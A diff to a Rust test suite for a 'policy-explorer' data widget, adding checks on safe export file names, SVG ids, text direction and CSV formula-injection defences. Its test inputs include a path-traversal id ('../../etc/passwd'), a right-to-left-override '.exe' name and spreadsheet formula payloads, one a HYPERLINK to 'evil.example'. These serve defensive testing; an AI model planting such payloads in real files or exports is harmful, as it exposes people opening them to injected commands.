@@ -205,6 +205,75 @@ fn files_are_named_for_what_they_hold() {
 }
 
 #[test]
+fn a_hostile_id_names_no_file_that_a_system_refuses() {
+    let long = "m".repeat(200);
+    for (id, expected) in [
+        ("../../etc/passwd", "policy-explorer-etcpasswd-2026-11-24.csv"),
+        ("con", "policy-explorer-con-2026-11-24.csv"),
+        ("a:b*c?\u{202e}vsc.exe", "policy-explorer-abcvscexe-2026-11-24.csv"),
+        ("мера", "policy-explorer-measure-1-2026-11-24.csv"),
+        (long.as_str(), &format!("policy-explorer-{}-2026-11-24.csv", "m".repeat(60))),
+    ] {
+        let document =
+            with(&[("/measures/0/id", json!(id)), ("/records", json!([])), ("/reported", json!([]))]);
+        let mut model = widget(&document);
+        say(&mut model, host(Field::Measure, id));
+        assert_eq!(made(&model, File::Csv).name, expected);
+    }
+}
+
+/// What an SVG says of an attribute, each time.
+fn values<'a>(svg: &'a str, before: &str) -> Vec<&'a str> {
+    svg.split(before).skip(1).map(|after| after.split(['"', ')', ' ']).next().expect("an end")).collect()
+}
+
+#[test]
+fn each_picture_has_ids_of_its_own_and_the_same_picture_the_same() {
+    let mut model = widget(&whole());
+    let mut seen: Vec<String> = Vec::new();
+    for (field, value) in [
+        (Field::Measure, "m"),
+        (Field::Measure, "n"),
+        (Field::Date, "2016"),
+        (Field::Projection, "equal-earth"),
+    ] {
+        say(&mut model, choose(field, value));
+        let svg = text(&model, File::Svg);
+        assert_eq!(svg, text(&model, File::Svg));
+        let ids = values(&svg, " id=\"");
+        assert!(ids.len() >= 3 && ids.iter().all(|id| id.starts_with("pe-")), "{ids:?}");
+        let used = values(&svg, "url(#")
+            .into_iter()
+            .chain(values(&svg, "aria-labelledby=\""))
+            .chain(values(&svg, "aria-describedby=\""));
+        assert!(used.clone().count() > 3 && used.clone().all(|id| ids.contains(&id)), "{ids:?}");
+        if field != Field::Projection {
+            assert!(ids.iter().all(|id| !seen.iter().any(|other| other == id)), "{ids:?} {seen:?}");
+        }
+        seen.extend(ids.into_iter().map(str::to_owned));
+        assert!(
+            svg.matches("url(#").count() == svg.matches(") #e8e9e9\"").count(),
+            "a colour stands behind each pattern"
+        );
+    }
+}
+
+#[test]
+fn texts_of_a_picture_are_in_their_place_whether_a_program_knows_directions_or_not() {
+    for (tag, anchor) in [("en", "start"), ("ar", "end")] {
+        let mut model = widget(&whole());
+        say(&mut model, Msg::Language(common::messages(tag)));
+        let svg = text(&model, File::Svg);
+        assert_eq!(values(&svg, " direction=\""), ["ltr"], "the page around it may run the other way");
+        let anchors = values(&svg, "text-anchor=\"");
+        assert_eq!(anchors.len(), svg.matches("<text ").count());
+        assert!(anchors.iter().all(|found| *found == anchor), "{tag}: {anchors:?}");
+        let marked = svg.matches(">\u{2067}").count();
+        assert_eq!(marked, if tag == "ar" { anchors.len() } else { 0 });
+    }
+}
+
+#[test]
 fn the_alternative_text_says_sentence_counts_and_notes() {
     let mut model = widget(&document("hanoi-2011"));
     say(&mut model, choose(Field::Measure, "icse-access"));
@@ -258,10 +327,10 @@ fn a_link_is_the_page_that_keeps_the_view_or_a_page_of_its_own() {
         Msg::Tell(format!("{page}\nhttps://cdn.example/w/policy-explorer.js?v=1\n{feed}\n{key}").into())
     };
     for (page, feed, key, expected) in [
-        ("https://a.example/", "https://d.example/f.json", "map", Link::View(
+        ("https://a.example/#", "https://d.example/f.json", "map", Link::View(
             "https://a.example/#map=measure:icse-access,region:,find:%C3%A9%26%3D%2C".to_owned(),
         )),
-        ("https://a.example/#x", "https://d.example/f.json", "map", Link::View(
+        ("https://a.example/#x&", "https://d.example/f.json", "map", Link::View(
             "https://a.example/#x&map=measure:icse-access,region:,find:%C3%A9%26%3D%2C".to_owned(),
         )),
         ("https://a.example/#x", "https://d.example/f.json", "", Link::Page("https://a.example/#x".to_owned())),
@@ -321,7 +390,48 @@ fn the_focus_goes_into_the_panel_and_back_to_its_button() {
 
 /// What a spreadsheet must not run.
 fn is_dangerous(cell: &str) -> bool {
-    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])
+    cell.trim_start_matches(['"', ' ']).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+/// Where some program or other begins a new cell.
+const PARTING: [char; 4] = [';', '\t', '\r', '\n'];
+
+/// The text of a cell, with an apostrophe before what is dangerous.
+fn safe(cell: &str) -> String {
+    let begin = if cell.starts_with(['\t', '\r', '\n']) { "'" } else { "" };
+    let mut text = begin.to_owned();
+    let mut is_new = true;
+    for (at, letter) in cell.char_indices() {
+        if is_new && is_dangerous(&cell[at..]) {
+            text.push('\'');
+        }
+        text.push(letter);
+        is_new = PARTING.contains(&letter);
+    }
+    text
+}
+
+#[test]
+fn nothing_in_a_table_is_run_wherever_a_program_parts_it() {
+    let note = "x;=HYPERLINK(\"http://evil.example/\"&A1;\"open\")\ty\t@SUM(1)\nz\n-1; +2;\"=3";
+    let evidence = json!([{"url": "https://example.org/?a;=1+1", "title": "a;=1+1"}]);
+    let document = with(&[
+        ("/records/0/note", json!(note)),
+        ("/records/0/evidence", evidence),
+        ("/publisher/name", json!("P;=1+1")),
+        ("/measures/0/title", json!("M;=1+1")),
+    ]);
+    let model = widget(&document);
+    for file in [File::Claims, File::Csv] {
+        let text = text(&model, file);
+        let found: Vec<_> = text.split(PARTING).filter(|cell| is_dangerous(cell)).collect();
+        assert_eq!(found, [""; 0]);
+    }
+    let (_, rows) = table(&text(&model, File::Claims));
+    assert!(
+        rows.iter().any(|row| row["source.title"] == "a;'=1+1"),
+        "and it is read as it was, but for the apostrophe"
+    );
 }
 
 /// Cells of the signs that matter, and any others.
@@ -350,9 +460,10 @@ proptest! {
         let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
         let read: Vec<Vec<String>> =
             reader.deserialize().map(|row| row.expect("rows of one length")).collect();
-        let safe = |cell: &String| if is_dangerous(cell) { format!("'{cell}") } else { cell.clone() };
-        let expected: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(safe).collect()).collect();
+        let expected: Vec<Vec<String>> =
+            rows.iter().map(|row| row.iter().map(|cell| safe(cell)).collect()).collect();
         prop_assert!(read.iter().flatten().all(|cell| !is_dangerous(cell)));
+        prop_assert!(text.split(PARTING).all(|cell| !is_dangerous(cell)), "{}", text);
         prop_assert_eq!(read, expected);
     }
 }
